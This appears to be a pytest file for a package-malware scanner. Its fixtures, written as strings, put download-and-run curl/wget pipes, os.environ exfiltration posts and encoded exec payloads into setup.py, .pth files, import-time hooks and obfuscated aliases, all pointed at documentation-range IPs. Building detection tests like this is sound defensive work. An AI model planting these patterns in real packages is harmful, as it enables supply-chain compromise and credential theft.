"""Shapes of real malware that last round's fixtures did not cover (``../shared/design/
detection-notes.md``): the payload, its decoder and the exec split over modules of one package;
harm reached through an import from setup.py, ``__init__`` or a ``.pth``; import-time hooks
(metaclasses, ``atexit``, threads, excepthooks, module ``__getattr__``); aliases of ``os`` and
``exec`` through ``importlib``, ``sys.modules``, ``operator``, ``functools`` and containers.
Every fixture must be high or critical with the threat named for it. Inert text only, and
documentation addresses only (192.0.2.x, 198.51.100.x, 203.0.113.x, example.invalid)."""

from __future__ import annotations

import base64
import zlib

import pytest

from tests.core.capabilities.variant_scan import assert_high_with, scan

SCRIPT = "import os; os.system('curl -s http://192.0.2.44/i.sh | sh')"
BLOB = base64.b64encode(SCRIPT.encode()).decode()
ZHEX = zlib.compress(SCRIPT.encode()).hex()
STEAL = "import os, urllib.request\nurllib.request.urlopen('http://203.0.113.9/c', data=str(dict(os.environ)).encode())\n"
FETCH = "urllib.request.urlopen('http://198.51.100.12/stage2.py').read()"

VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    # the payload, decoder and exec in three modules
    "cross_module_blob_decoder_exec": (
        {
            "pkg/__init__.py": "from .util import blob\nfrom .codec import unpack\nexec(unpack(blob))\n",
            "pkg/util.py": f"blob = '{BLOB}'\n",
            "pkg/codec.py": "import base64\ndef unpack(s):\n    return base64.b64decode(s).decode()\n",
        },
        ("chain.decode_exec", "place.import_time"),
    ),
    "cross_module_zlib_hex": (
        {
            "pkg/__init__.py": "from pkg._data import PAYLOAD\nimport zlib\nexec(zlib.decompress(bytes.fromhex(PAYLOAD)))\n",
            "pkg/_data.py": f"PAYLOAD = '{ZHEX}'\n",
        },
        ("chain.decode_exec",),
    ),
    "setup_imports_harmful_module": (
        {
            "setup.py": "from setuptools import setup\nimport pkg._bootstrap\nsetup(name='pkg', version='1.0')\n",
            "pkg/__init__.py": "",
            "pkg/_bootstrap.py": "import os\nos.system('wget -qO- http://198.51.100.40/b.sh | bash')\n",
        },
        ("chain.download_execute", "place.install_time"),
    ),
    "init_imports_core_that_downloads": (
        {
            "pkg/__init__.py": "from . import _core\n__version__ = '1.0'\n",
            "pkg/_core.py": f"import urllib.request\nexec({FETCH})\n",
        },
        ("chain.remote_exec", "place.import_time"),
    ),
    "pth_imports_acting_module": (
        {
            "pkg_hook.pth": "import pkg._hook\n",
            "pkg/__init__.py": "",
            "pkg/_hook.py": "import os, requests\nrequests.post('http://192.0.2.15/e', json=dict(os.environ))\n",
        },
        ("chain.exfiltration", "place.install_time", "place.import_time"),
    ),
    # import-time hooks
    "metaclass_new": (
        {
            "pkg/__init__.py": "import subprocess\n"
            "class Meta(type):\n    def __new__(mcs, name, bases, ns):\n"
            "        subprocess.Popen('curl http://203.0.113.77/m | sh', shell=True)\n"
            "        return super().__new__(mcs, name, bases, ns)\n"
            "class Base(metaclass=Meta):\n    pass\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "init_subclass": (
        {
            "pkg/__init__.py": "import os, requests\n"
            "class Plugin:\n    def __init_subclass__(cls, **kw):\n"
            "        requests.post('http://198.51.100.8/p', data=dict(os.environ))\n"
            "class Default(Plugin):\n    pass\n",
        },
        ("chain.exfiltration", "place.import_time"),
    ),
    "atexit_at_import": (
        {
            "pkg/__init__.py": "import atexit, os\n"
            "def _cleanup():\n    os.system('curl -s http://192.0.2.91/c.sh | bash')\n"
            "atexit.register(_cleanup)\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "thread_target_at_import": (
        {
            "pkg/__init__.py": "import threading, os, requests\n"
            "def _beacon():\n    requests.post('http://203.0.113.30/b', json={'env': dict(os.environ)})\n"
            "threading.Thread(target=_beacon, daemon=True).start()\n",
        },
        ("chain.exfiltration", "place.import_time"),
    ),
    "excepthook": (
        {
            "pkg/__init__.py": "import sys, urllib.request\n"
            "def _hook(t, v, tb):\n    exec(urllib.request.urlopen('http://198.51.100.60/h').read())\n"
            "sys.excepthook = _hook\n",
        },
        ("chain.remote_exec",),
    ),
    "module_getattr": (
        {
            "pkg/__init__.py": "import urllib.request\n"
            "def __getattr__(name):\n    exec(urllib.request.urlopen('http://192.0.2.100/g').read())\n"
            "    raise AttributeError(name)\n",
        },
        ("chain.remote_exec",),
    ),
    # aliases and indirections
    "importlib_os_pieces": (
        {
            "pkg/__init__.py": "import importlib\n_m = importlib.import_module('o' + 's')\n"
            "_m.system('curl http://203.0.113.41/x | sh')\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "sys_modules_os": (
        {
            "pkg/__init__.py": "import sys, os\nsys.modules['os'].system('wget http://192.0.2.5/y -O- | sh')\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "methodcaller_system": (
        {
            "pkg/__init__.py": "import os, operator\n"
            "operator.methodcaller('system', 'curl http://198.51.100.90/z | sh')(os)\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "partial_subprocess": (
        {
            "pkg/__init__.py": "import functools, subprocess\n"
            "_run = functools.partial(subprocess.run, shell=True)\n"
            "_run('curl -fsSL http://203.0.113.66/q.sh | bash')\n",
        },
        ("chain.download_execute", "place.import_time"),
    ),
    "eval_compile_remote": (
        {
            "pkg/__init__.py": f"import urllib.request\neval(compile({FETCH}, '<s>', 'exec'))\n",
        },
        ("chain.remote_exec",),
    ),
    "builtins_dict_exec": (
        {
            "pkg/__init__.py": "import builtins, base64\n"
            f"builtins.__dict__['exec'](base64.b64decode('{BLOB}'))\n",
        },
        ("chain.decode_exec",),
    ),
    "exec_in_list": (
        {
            "pkg/__init__.py": f"import base64\n[exec][0](base64.b64decode('{BLOB}'))\n",
        },
        ("chain.decode_exec",),
    ),
    "map_exec": (
        {
            "pkg/__init__.py": f"import base64\nlist(map(exec, [base64.b64decode('{BLOB}')]))\n",
        },
        ("chain.decode_exec",),
    ),
    "walrus_hidden": (
        {
            "pkg/__init__.py": "import base64\n"
            f"if (code := base64.b64decode('{BLOB}')):\n    exec(code)\n",
        },
        ("chain.decode_exec",),
    ),
    "comprehension_exec": (
        {
            "pkg/__init__.py": f"import base64\n[exec(base64.b64decode(p)) for p in ['{BLOB}']]\n",
        },
        ("chain.decode_exec",),
    ),
    # more import-time hooks
    "settrace_hook": (
        {
            "pkg/__init__.py": "import sys, urllib.request\n"
            "def _t(frame, event, arg):\n    exec(urllib.request.urlopen('http://203.0.113.3/t').read())\n"
            "sys.settrace(_t)\n",
        },
        ("chain.remote_exec",),
    ),
    "timer_at_import": (
        {
            "pkg/__init__.py": "import threading, os\n"
            "def _go():\n    os.system('curl http://192.0.2.17/t.sh | sh')\n"
            "threading.Timer(30, _go).start()\n",
        },
        ("chain.download_execute",),
    ),
    "signal_handler": (
        {
            "pkg/__init__.py": "import signal, os, requests\n"
            "def _h(*a):\n    requests.post('http://192.0.2.71/s', json=dict(os.environ))\n"
            "signal.signal(signal.SIGTERM, _h)\n",
        },
        ("chain.exfiltration",),
    ),
    "weakref_finalize": (
        {
            "pkg/__init__.py": "import weakref, os\nclass _S:\n    pass\n_s = _S()\n"
            "weakref.finalize(_s, os.system, 'curl http://203.0.113.12/f | bash')\n",
        },
        ("chain.download_execute",),
    ),
    "instance_del": (
        {
            "pkg/__init__.py": "import os\nclass _G:\n    def __del__(self):\n"
            "        os.system('curl http://198.51.100.14/d | sh')\n_g = _G()\n",
        },
        ("chain.download_execute",),
    ),
    "pyproject_dynamic_version_attr": (
        {
            "pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
            "build-backend = 'setuptools.build_meta'\n[project]\nname = 'pkg'\n"
            "dynamic = ['version']\n[tool.setuptools.dynamic]\nversion = {attr = 'pkg.__version__'}\n",
            "pkg/__init__.py": "import os\nos.system('curl http://192.0.2.88/v | sh')\n__version__ = '1.0'\n",
        },
        ("chain.download_execute",),
    ),
    # more aliases
    "functiontype_of_marshal": (
        {
            "pkg/__init__.py": "import types, marshal, base64\n"
            f"_c = marshal.loads(base64.b64decode('{base64.b64encode(bytes([0xE3]) + bytes(200)).decode()}'))\n"
            "types.FunctionType(_c, globals())()\n",
        },
        ("chain.decode_exec", "disguise.encoded_exec"),
    ),
    "dunder_import_getattr_pieces": (
        {
            "pkg/__init__.py": "getattr(__import__('o' + 's'), 'sys' + 'tem')('curl http://198.51.100.4/a | sh')\n",
        },
        ("chain.download_execute", "disguise.obfuscation"),
    ),
    "os_popen": (
        {
            "pkg/__init__.py": "import os\nos.popen('wget -q -O - http://203.0.113.7/p | sh').read()\n"
        },
        ("chain.download_execute",),
    ),
    "exec_name_joined_from_letters": (
        {
            "pkg/__init__.py": "import base64, builtins\n"
            "run = getattr(builtins, ''.join(['e', 'x', 'e', 'c']))\n"
            f"run(base64.b64decode('{BLOB}'))\n",
        },
        ("chain.decode_exec",),
    ),
    "exec_in_dict": (
        {
            "pkg/__init__.py": "import base64\n"
            f"{{'run': exec}}['run'](base64.b64decode('{BLOB}'))\n",
        },
        ("chain.decode_exec",),
    ),
    "starmap_exec": (
        {
            "pkg/__init__.py": "import base64, itertools\n"
            f"list(itertools.starmap(exec, [(base64.b64decode('{BLOB}'),)]))\n",
        },
        ("chain.decode_exec",),
    ),
    "module_class_swapped_property": (
        {
            "pkg/__init__.py": "import sys, types, os\nclass _M(types.ModuleType):\n"
            "    @property\n    def config(self):\n"
            "        os.system('curl http://192.0.2.9/c | sh')\n        return {}\n"
            "sys.modules[__name__].__class__ = _M\n",
        },
        ("chain.download_execute",),
    ),
    "reduce_concatenated_source": (
        {
            "pkg/__init__.py": "import functools, operator\n"
            "_p = ['im', 'port os; os.sys', \"tem('curl http://192.0.2.2/r | sh')\"]\n"
            "exec(functools.reduce(operator.add, _p))\n",
        },
        ("chain.download_execute", "chain.decode_exec"),
    ),
    "cross_module_through_module_attributes": (
        {
            "pkg/__init__.py": "from . import codec, store\nexec(codec.unpack(store.blob))\n",
            "pkg/store.py": f"blob = '{BLOB}'\n",
            "pkg/codec.py": "import base64\ndef unpack(s):\n    return base64.b64decode(s)\n",
        },
        ("chain.decode_exec",),
    ),
    "cross_module_absolute_imports_in_class_body": (
        {
            "pkg/__init__.py": "from pkg.util import blob\nfrom pkg.codec import unpack\n"
            "class Config:\n    exec(unpack(blob))\n",
            "pkg/util.py": f"blob = '{BLOB}'\n",
            "pkg/codec.py": "import base64\ndef unpack(s):\n    return base64.b64decode(s)\n",
        },
        ("chain.decode_exec",),
    ),
    "imported_blob_known_decoder": (
        {
            "pkg/__init__.py": "import base64\nfrom .consts import DATA\nexec(base64.b64decode(DATA))\n",
            "pkg/consts.py": f"DATA = '{BLOB}'\n",
        },
        ("chain.decode_exec",),
    ),
    "setup_imports_its_package_for_the_version": (
        {
            "setup.py": "from setuptools import setup\nimport pkg\nsetup(name='pkg', version=pkg.__version__)\n",
            "pkg/__init__.py": "import os, requests\n__version__ = '1.0'\n"
            "requests.post('http://192.0.2.15/e', json=dict(os.environ))\n",
        },
        ("chain.exfiltration",),
    ),
    "own_decoder_result_held_in_a_name": (
        {
            "pkg/__init__.py": "import base64, zlib\ndef load(s):\n"
            "    return zlib.decompress(base64.b64decode(s))\n"
            f"PAYLOAD = '{base64.b64encode(zlib.compress(SCRIPT.encode())).decode()}'\n"
            "code = load(PAYLOAD)\nexec(code)\n",
        },
        ("chain.decode_exec",),
    ),
    "cross_module_decoder_result_held_in_a_name": (
        {
            "pkg/__init__.py": "from .codec import unpack\nfrom .store import blob\n"
            "code = unpack(blob)\nexec(code)\n",
            "pkg/store.py": f"blob = '{BLOB}'\n",
            "pkg/codec.py": "import base64\ndef unpack(s):\n    return base64.b64decode(s)\n",
        },
        ("chain.decode_exec",),
    ),
    "one_line_lambda_obfuscator": (
        {
            "pkg/__init__.py": "_ = lambda __ : __import__('zlib').decompress("
            "__import__('base64').b64decode(__[::-1]));"
            f"exec((_)({base64.b64encode(zlib.compress(SCRIPT.encode()))[::-1]!r}))\n",
        },
        ("chain.decode_exec",),
    ),
}


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_each_shape_is_high_with_its_threat(name, tmp_path):
    files, expected = VARIANTS[name]
    assert_high_with(name, scan(files, tmp_path), expected)


def test_a_template_built_by_an_imported_helper_in_a_function_is_not_a_payload(tmp_path):
    """Record libraries exec source that a helper of theirs builds from their own field lists,
    when the user asks for a class: the split decoder rule holds only for code that runs on
    import or install."""
    files = {
        "pkg/__init__.py": "from .templates import build_source\nfrom .fields import FIELDS\n"
        "def make_class(name):\n    ns = {}\n    exec(build_source(FIELDS), ns)\n    return ns[name]\n",
        "pkg/templates.py": "def build_source(fields):\n    return 'class R:\\n    pass\\n'\n",
        "pkg/fields.py": "FIELDS = ('a', 'b')\n",
    }
    result = scan(files, tmp_path)
    assert "py.exec_imported_decoder" not in {h.rule for h in result.findings}
    assert result.risk.level not in ("high", "critical")


def test_source_a_module_function_fills_in_and_execs_through_a_name_is_no_payload(tmp_path):
    """A readable code template filled in by the module's own function, held in a name and
    exec'd on import (how record libraries make their classes) stays below high."""
    files = {
        "pkg/__init__.py": "TEMPLATE = 'def {name}(self):\\n    # the record field {name}, read "
        "by position\\n    return self._data[{index}]\\n'\n"
        "def render(t, **kw):\n    return t.format(**kw)\n"
        "src = render(TEMPLATE, name='first', index=0)\nns = {}\nexec(src, ns)\n",
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in ("high", "critical"), [t.id for t in result.threats]
